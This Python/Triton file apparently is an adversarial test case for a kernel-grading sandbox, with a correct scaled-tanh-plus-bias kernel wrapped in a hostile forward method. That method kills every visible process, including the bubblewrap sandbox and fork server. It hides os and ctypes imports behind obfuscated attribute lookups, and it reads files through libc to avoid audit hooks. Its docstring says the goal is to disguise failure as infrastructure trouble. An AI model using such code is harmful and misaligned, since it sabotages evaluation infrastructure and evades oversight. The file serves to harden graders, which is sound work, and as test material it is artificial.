# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=verdict_not_neighbours expect=ok|forbidden|runtime_error|crashed device=any then=data/query_solutions/001_scaled_tanh_bias.py
"""Tries to take the slot down for whoever comes next (or make its own failure look like infrastructure):
 SIGSTOP then SIGKILL to pid 1 (bubblewrap) and pid 2 (the fork server) and every other pid it sees, kill(-1)
 with SIGCONT (harmless to itself), then setpgid/setsid games, through libc. CapBnd still holds CAP_KILL and the
 inheritable set holds 0xeb; only the uid and the empty effective set stop it. The candidate is otherwise
 correct; the follower must stay ok."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _read(path, n=1 << 16):
    """Read a file through libc (no Python open event)."""
    fd = _libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(_ct.get_errno(), path)
    try:
        return _os.read(fd, n).decode(errors="replace")
    finally:
        _os.close(fd)



class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        me = _os.getpid()
        for d in _os.listdir("/proc"):
            if d.isdigit() and int(d) != me:
                _libc.kill(int(d), 19)
                _libc.kill(int(d), 9)
        _libc.kill(-1, 18)
        _libc.setpgid(0, 1)
        return stb(x, self.bias, self.scale)
